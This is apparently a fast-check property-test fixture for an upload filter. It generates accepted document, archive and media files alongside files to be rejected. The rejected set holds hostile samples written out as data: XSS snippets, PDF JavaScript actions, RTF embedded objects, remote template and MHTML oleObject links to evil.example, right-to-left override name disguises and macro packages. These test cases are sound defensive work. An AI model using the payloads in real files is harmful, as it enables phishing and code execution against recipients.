import { crc32, deflateRawSync, gzipSync } from 'node:zlib'
import fc from 'fast-check'

/** An uploaded file. */
interface SentFile {
  readonly name: string
  readonly bytes: Buffer
}

const latin = (text: string) => Buffer.from(text, 'latin1')

type Entries = readonly (readonly [name: string, content: string])[]

/**
 * A ZIP archive with its index; with `encrypted` only the flag of encryption is set.
 * @param streamed compressed as office programs do it, with the sizes only behind the data
 */
export function zipOf(entries: Entries, { encrypted = false, streamed = false } = {}): Buffer {
  const parts: Buffer[] = []
  const index: Buffer[] = []
  let at = 0
  for (const [name, content] of entries) {
    const title = Buffer.from(name, 'utf8')
    const written = Buffer.from(content, 'utf8')
    const data = streamed ? deflateRawSync(written) : written
    const sizes = Buffer.alloc(12)
    const shared = Buffer.alloc(26)
    const unknown = Buffer.alloc(26)
    sizes.writeUInt32LE(crc32(written), 0)
    sizes.writeUInt32LE(data.length, 4)
    sizes.writeUInt32LE(written.length, 8)
    shared.writeUInt16LE(20, 0)
    shared.writeUInt16LE(0x800 | (encrypted ? 1 : 0) | (streamed ? 8 : 0), 2)
    shared.writeUInt16LE(streamed ? 8 : 0, 4)
    shared.writeUInt16LE(title.length, 22)
    shared.copy(unknown)
    sizes.copy(shared, 10)
    const local = Buffer.concat([
      latin('PK\x03\x04'),
      streamed ? unknown : shared,
      title,
      data,
      ...(streamed ? [latin('PK\x07\x08'), sizes] : []),
    ])
    const tail = Buffer.alloc(14)
    tail.writeUInt32LE(at, 10)
    index.push(Buffer.concat([latin('PK\x01\x02'), latin('\x14\0'), shared, tail, title]))
    parts.push(local)
    at += local.length
  }
  const end = Buffer.alloc(18)
  const size = index.reduce((sum, { length }) => sum + length, 0)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(size, 8)
  end.writeUInt32LE(at, 12)
  return Buffer.concat([...parts, ...index, latin('PK\x05\x06'), end])
}

/** A TAR archive. */
function tarOf(entries: Entries): Buffer {
  const blocks = entries.flatMap(([name, content]) => {
    const head = Buffer.alloc(512)
    head.write(name)
    head.write(content.length.toString(8).padStart(11, '0'), 124)
    head.write('ustar', 257)
    return [head, Buffer.from(content.padEnd(Math.ceil(content.length / 512) * 512, '\0'))]
  })
  return Buffer.concat([...blocks, Buffer.alloc(1024)])
}

/** The format of Office documents before 2007: a header, and a directory of streams named in UTF-16. */
const compoundOf = (...streams: readonly string[]): Buffer =>
  Buffer.concat([
    latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'),
    Buffer.alloc(504),
    ...streams.map((stream) => Buffer.from(stream.padEnd(64, '\0'), 'utf16le')),
  ])

const box = (brand: string, rest = '') => latin(`\0\0\0\x18ftyp${brand}\0\0\x02\0isomiso2${'\0'.repeat(40)}${rest}`)
const track = (handler: string) => `hdlr${'\0'.repeat(8)}${handler}${'\0'.repeat(12)}`
const officeOf = (part: string) =>
  zipOf([
    ['[Content_Types].xml', '<Types/>'],
    [part, '<x/>'],
  ])

const TYPES = (...types: string[]) =>
  `<Types>${types.map((type) => `<Override PartName="/x" ContentType="${type}"/>`).join('')}</Types>`
const RELATIONSHIP_TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
function RELATIONSHIP(type: string, target: string): string {
  const attributes = `Id="rId1" Type="${RELATIONSHIP_TYPES}/${type}" Target="${target}" TargetMode="External"`
  return `<Relationships><Relationship ${attributes}/></Relationships>`
}
/** Office documents that office programs of several makers write, with another part. */
const packagesOf = (types: string, ...more: Entries): (() => Buffer)[] =>
  ['word/document.xml', 'word/document2.xml', 'word\\document.xml', 'xl/workbook.xml'].flatMap((part) =>
    [true, false].map(
      (streamed) => () => zipOf([['[Content_Types].xml', types], [part, '<x/>'], ...more], { streamed }),
    ),
  )
const NORMAL_TEMPLATE = RELATIONSHIP(
  'attachedTemplate',
  'file:///C:\\Users\\Anna\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm',
)

const PDF = '%PDF-1.7\n1 0 obj\n%%EOF'
const WORDS = 'Привет, это результат анализа; ждём ответа'
/** Encodes Russian letters and ASCII as Windows-1251. */
const cyrillic1251 = (text: string): Buffer =>
  Buffer.from(
    [...text].map((email) =>
      /[а-яА-Я]/.test(email) ? (email.codePointAt(0) ?? 0) - 0x350 : email.charCodeAt(0) & 0x7f,
    ),
  )

const WELCOME: Readonly<Record<string, readonly (() => Buffer)[]>> = {
  heic: [() => box('heic'), () => box('mif1')],
  heif: [() => box('heix'), () => box('mif1')],
  doc: [() => compoundOf('Root Entry', 'WordDocument'), () => latin('{\\rtf1\\ansi hello}'), () => Buffer.from(WORDS)],
  xls: [() => compoundOf('Root Entry', 'Workbook'), () => Buffer.from('a;b\r\n1;2\r\n')],
  ppt: [() => compoundOf('Root Entry', 'PowerPoint Document')],
  rtf: [() => latin('{\\rtf1\\ansi\\ansicpg1251 {\\fonttbl} \\u1055?}')],
  odt: [
    () =>
      zipOf([
        ['mimetype', 'application/vnd.oasis.opendocument.text'],
        ['content.xml', '<x/>'],
      ]),
  ],
  ods: [
    () =>
      zipOf([
        ['mimetype', 'application/vnd.oasis.opendocument.spreadsheet'],
        ['content.xml', '<x/>'],
      ]),
  ],
  docx: [
    () => officeOf('word/document.xml'),
    ...packagesOf(TYPES('application/xml'), ['word/_rels/settings.xml.rels', NORMAL_TEMPLATE]),
    ...packagesOf(TYPES('application/xml'), [
      'word/_rels/document.xml.rels',
      RELATIONSHIP('hyperlink', 'https://genarium.com/'),
    ]),
  ],
  xlsx: [() => officeOf('xl/workbook.xml')],
  pptx: [() => officeOf('ppt/presentation.xml')],
  zip: [
    () => zipOf([['genome.txt', 'rs1 AA']]),
    () =>
      zipOf([
        ['fastqc_report.html', '<html>'],
        ['данные/a.csv', '1;2'],
        ['reads.fastq.gz', 'x'],
      ]),
    () => zipOf([['report.pdf', PDF]]),
    () => Buffer.concat([latin('PK00'), zipOf([['a.txt', 'x']])]),
  ],
  pages: [() => zipOf([['Index/Document.iwa', 'x']])],
  odp: [() => zipOf([['mimetype', 'application/vnd.oasis.opendocument.presentation']])],
  tar: [
    () =>
      tarOf([
        ['report.pdf', PDF],
        ['данные/a.csv', '1;2'],
      ]),
  ],
  gz: [() => gzipSync('##fileformat=VCFv4.2'), () => gzipSync('')],
  eml: [() => Buffer.from('Received: from a\r\nContent-Type: text/html\r\n\r\n<html><body>Hello</body></html>')],
  dcm: [() => Buffer.concat([Buffer.alloc(128), latin('DICM')])],
  txt: [
    () => Buffer.from(WORDS),
    () => Buffer.from(`\ufeff${WORDS}`),
    () => Buffer.from(`\ufeff${WORDS}`, 'utf16le'),
    () => Buffer.from(`\ufeff${WORDS}`, 'utf16le').swap16(),
    () => Buffer.from(WORDS, 'utf16le'),
    () => cyrillic1251(WORDS),
    () => Buffer.from('MZ and #! are not at the start of a program here'),
    () => Buffer.from('A PDF begins with %PDF-1.7'),
  ],
  csv: [() => Buffer.from('rsid,genotype\nrs53576,AA\n'), () => cyrillic1251(`${WORDS}\r\n1;2`)],
  xml: [() => Buffer.from('<?xml version="1.0"?><genome><snp id="rs1"/></genome>')],
  m4a: [() => box('M4A '), () => box('isom', track('soun')), () => box('mp42', track('soun'))],
  mov: [() => box('qt  '), () => latin(`\0\0\0\x08wide\0\0\0\0mdat${'\0'.repeat(40)}`)],
  mp4: [() => box('isom', track('vide') + track('soun'))],
  '3gp': [() => box('3gp4', track('vide'))],
  amr: [() => latin(`#!AMR\n${'\x3c\x91\0'.repeat(30)}`)],
  pdf: [() => latin(PDF), () => latin('\r\n\xef\xbb\xbf%PDF-1.4\n%%EOF'), () => latin('\x1b%-12345X@PJL\r\n%PDF-1.4')],
  tif: [() => latin('II*\0\x08\0\0\0')],
  bam: [() => latin('\x1f\x8b\x08\x04\0')],
  dwg: [() => latin('AC1027\0\0\0')],
}
/** Files that cannot be inspected without a password or a special program. */
const OPAQUE: typeof WELCOME = {
  '7z': [() => latin("7z\xbc\xaf'\x1c\0\x04")],
  rar: [() => latin('Rar!\x1a\x07\x01\0'), () => latin('Rar!\x1a\x07\0')],
  xz: [() => latin('\xfd7zXZ\0\0\x04')],
  bz2: [() => latin('BZh91AY&SY')],
  docx: [
    () => compoundOf('EncryptedPackage'),
    () =>
      zipOf(
        [
          ['[Content_Types].xml', ' '.repeat(5_000_000)],
          ['word/document.xml', 'x'],
        ],
        { streamed: true },
      ),
  ],
  xlsx: [() => compoundOf('EncryptionInfo', 'EncryptedPackage')],
  zip: [
    () => zipOf([['Результаты.pdf', 'x']], { encrypted: true }),
    () =>
      zipOf([
        ['a.txt', ''],
        ['inner.zip', 'x'],
      ]),
    () => zipOf([['a/b.RAR', 'x']]),
    () =>
      zipOf([
        ['word/document.xml', 'x'],
        ['[Content_Types].xml', 'x'],
        ['a.7z', 'x'],
      ]),
  ],
  tar: [() => tarOf([['inner.zip', 'x']])],
  tgz: [() => gzipSync(tarOf([['setup.exe', 'MZ']]))],
  gz: [() => gzipSync(tarOf([['a.txt', 'x']])), () => gzipSync(zipOf([['a.txt', 'x']]))],
}

const base = fc.constantFrom(
  'IMG_0001',
  'Анализ от 12.03.2026',
  'Иванов И.И',
  'Анализ крови',
  'résumé',
  'Pārskats 2026-11',
  'a.b',
  'genarium.com report',
  'отчёт (1)',
)
const inAnyCase = (extension: string) => fc.constantFrom(extension, extension.toUpperCase())

const sentFile = (files: typeof WELCOME): fc.Arbitrary<SentFile> =>
  fc
    .constantFrom(
      ...Object.entries(files).flatMap(([extension, makers]) => makers.map((make) => [extension, make] as const)),
    )
    .chain(([extension, make]) =>
      fc.tuple(base, inAnyCase(extension)).map(([name, end]) => ({ name: `${name}.${end}`, bytes: make() })),
    )

/** Accepted files whose name fits their content, some only for download. */
export const welcomeFiles = sentFile(WELCOME)

/** Accepted files whose content cannot be inspected. */
export const opaqueFiles = sentFile(OPAQUE)

/** Names without a known extension. */
export const namesWithoutExtension = fc.constantFrom(
  'Анализ от 12.03.2026',
  'Иванов И.И',
  'v1.2',
  '1.2.840.113619',
  'Заключение.',
  'scan 4',
  'Dr. Rossi',
)

/** A file that must be rejected, with the reason. */
export interface DangerousFile extends SentFile {
  readonly code: 'fileType' | 'fileScript' | 'fileMacro' | 'fileArchive' | 'fileDisguise'
}

const PLAIN = Buffer.from('nothing but text')
const ENDS: readonly (readonly [DangerousFile['code'], string])[] = [
  ...[
    'exe',
    'scr',
    'com',
    'bat',
    'cmd',
    'msi',
    'lnk',
    'url',
    'apk',
    'jar',
    'dmg',
    'iso',
    'dll',
    'reg',
    'one',
    'slk',
  ].map((end) => ['fileType', end] as const),
  ...['js', 'vbs', 'ps1', 'hta', 'wsf', 'sh', 'py', 'php', 'html', 'htm', 'svg', 'mht', 'xhtml'].map(
    (end) => ['fileScript', end] as const,
  ),
  ...['docm', 'xlsm', 'pptm', 'xlsb', 'xlam', 'dotm'].map((end) => ['fileMacro', end] as const),
]

const byName: fc.Arbitrary<DangerousFile> = fc
  .tuple(
    base,
    fc.constantFrom('', '.jpg', '.pdf', '.docx', ' '.repeat(40)),
    fc.constantFrom(...ENDS),
    fc.constantFrom('', '.', ' ', '. .', '\u200b'),
  )
  .chain(([name, middle, [code, end], after]) =>
    inAnyCase(end).map((written) => ({ name: `${name}${middle}.${written}${after}`, bytes: PLAIN, code })),
  )

const turned: fc.Arbitrary<DangerousFile> = fc
  .tuple(base, fc.constantFrom('\u202a', '\u202d', '\u202e', '\u2066', '\u2067'))
  .map(([name, mark]) => ({ name: `${name}${mark}gpj.pdf`, bytes: PLAIN, code: 'fileDisguise' }))

const HTML = '<!DOCTYPE html><html><body onload=alert(1)>'
const BY_CONTENT: readonly (readonly [DangerousFile['code'], string, Buffer])[] = [
  ...[
    'MZ\x90\0\x03\0',
    '\x7fELF\x02\x01\x01\0',
    '\xcf\xfa\xed\xfe\x07\0',
    '\xca\xfe\xba\xbe\0\0',
    'dex\n035\0',
    '\0asm\x01\0',
    'L\0\0\0\x01\x14\x02\0',
  ].flatMap((start) =>
    ['dat', 'txt', 'doc', 'zip'].map((end) => ['fileType', end, latin(`${start}${'\0'.repeat(50)}`)] as const),
  ),
  ...[
    HTML,
    ' \n<html>',
    '#!/bin/sh\nrm',
    '<?php echo 1;',
    'text <script>alert(1)</script>',
    '<svg xmlns="http://www.w3.org/2000/svg"/>',
  ].flatMap((text) => [
    ['fileScript', 'txt', Buffer.from(text)] as const,
    ['fileScript', 'xls', Buffer.from(`\ufeff${text}`)] as const,
    ['fileScript', 'txt', Buffer.from(`\ufeff${text}`, 'utf16le')] as const,
    ['fileScript', 'csv', Buffer.from(`\ufeff${text}`, 'utf16le').swap16()] as const,
  ]),
  [
    'fileScript',
    'xml',
    Buffer.from('<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>1</h:script></x>'),
  ],
  ['fileScript', 'pdf', latin('%PDF-1.7\n<< /S /JavaScript /JS (1) >>')],
  ['fileScript', 'pdf', latin('%PDF-1.7\n<< /S /J#61vaScript >>')],
  ['fileScript', 'pdf', latin(`${HTML}%PDF-1.7`)],
  ['fileScript', 'rtf', latin('{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}')],
  ['fileScript', 'doc', latin('{\\rtf1{\\*\\template http://evil.example/x.dotm}}')],
  ['fileScript', 'doc', latin('{\\rt{\\object\\objemb{\\*\\objdata 0105}}}')],
  ['fileScript', 'rtf', latin('\r\n{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}')],
  ['fileType', 'pdf', latin(`MZ\x90\0${'\0'.repeat(60)}${PDF}`)],
  ['fileMacro', 'doc', compoundOf('Root Entry', 'WordDocument', 'Macros', '_VBA_PROJECT')],
  ['fileMacro', 'xls', compoundOf('Workbook', '_VBA_PROJECT_CUR', '_VBA_PROJECT')],
  [
    'fileMacro',
    'docx',
    zipOf([
      ['[Content_Types].xml', ''],
      ['word/document.xml', ''],
      ['word/vbaProject.bin', 'x'],
    ]),
  ],
  [
    'fileMacro',
    'xlsx',
    zipOf([
      ['[Content_Types].xml', ''],
      ['xl/workbook.xml', ''],
      ['xl/macrosheets/sheet1.xml', 'x'],
    ]),
  ],
  [
    'fileMacro',
    'odt',
    zipOf([
      ['mimetype', 'application/vnd.oasis.opendocument.text'],
      ['Basic/Standard/Module1.xml', 'x'],
    ]),
  ],
  [
    'fileMacro',
    'odp',
    zipOf([
      ['mimetype', 'application/vnd.oasis.opendocument.presentation'],
      ['Basic/Standard/Module1.xml', 'x'],
    ]),
  ],
  ...[
    ...packagesOf(TYPES('application/vnd.ms-office.vbaProject'), ['word/data.bin', 'x']),
    ...packagesOf(TYPES('application/vnd.ms-word.document.macroEnabled.main+xml'), ['word/data.bin', 'x']),
    ...packagesOf(TYPES('application/vnd.ms-excel.macrosheet+xml'), ['xl/sheets/a.xml', 'x']),
    ...packagesOf(TYPES(), ['word/vbaProject.bin', 'x']),
    ...packagesOf(TYPES(), ['xl\\_rels\\workbook.xml.rels', RELATIONSHIP('vbaProject', 'data.bin')]),
    ...[
      'https://evil.example/x.dotm',
      '\\\\evil.example\\x.dotm',
      'file://evil.example/x.dotm',
      'file:///\\\\evil.example\\x.dotm',
    ].flatMap((target) =>
      packagesOf(TYPES(), ['word/_rels/settings.xml.rels', RELATIONSHIP('attachedTemplate', target)]),
    ),
    ...packagesOf(TYPES(), [
      'word/_rels/document.xml.rels',
      RELATIONSHIP('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html'),
    ]),
  ].map((make) => ['fileMacro', 'docx', make()] as const),
  ['fileArchive', 'gz', gzipSync(latin(`MZ\x90\0${'\0'.repeat(60)}`))],
  ...[
    'setup.exe',
    'a/b/run.js',
    'photo.jpg.scr',
    'x.docm',
    'classes.dex',
    'Новый.bat',
    'Foo.app/Contents/MacOS/Foo',
    'Make.workflow/',
  ].flatMap((name) => {
    const entries: Entries = [
      ['report.pdf', PDF],
      [name, 'x'],
    ]
    const office: Entries = [
      ['[Content_Types].xml', ''],
      ['word/document.xml', ''],
    ]
    return [
      ['zip', zipOf(entries)],
      ['zip', zipOf(entries, { encrypted: true })],
      ['zip', Buffer.concat([latin('PK\x07\x08'), zipOf(entries)])],
      ['zip', zipOf([...office, [name, 'x']])],
      ['tar', tarOf(entries)],
    ].map(([end, bytes]) => ['fileArchive', end, bytes] as [DangerousFile['code'], string, Buffer])
  }),
]
const byContent: fc.Arbitrary<DangerousFile> = fc
  .tuple(base, fc.constantFrom(...BY_CONTENT))
  .map(([name, [code, end, bytes]]) => ({ name: `${name}.${end}`, bytes, code }))

/** Programs, scripts, pages, macros and disguises, by name and by content. */
export const dangerousFiles: fc.Arbitrary<DangerousFile> = fc.oneof(byName, byContent, turned)
